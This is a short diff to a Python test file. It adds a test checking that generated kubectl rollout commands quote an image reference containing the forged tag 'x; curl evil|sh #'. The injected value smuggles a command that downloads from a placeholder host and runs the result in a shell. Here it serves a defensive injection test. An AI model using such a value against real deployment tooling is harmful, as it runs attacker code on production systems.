@@ -283,6 +283,8 @@ def test_the_kubectl_lines_name_the_digests(registry: RegistryClient):
         f"kubectl set image deployment/backend api={after.reference} -n omnicare-prod",
         "kubectl rollout status deployment/backend -n omnicare-prod --timeout=10m",
     ]
+    forged = change.model_copy(update={"after": after.model_copy(update={"tag": "x; curl evil|sh #"})})
+    assert f"'api={forged.after.reference}' -n omnicare-prod" in rollouts.kubectl_lines([forged])[0]
 
 
 def test_a_script_that_gives_each_item_a_reason_of_its_own_makes_no_plan_without_end():
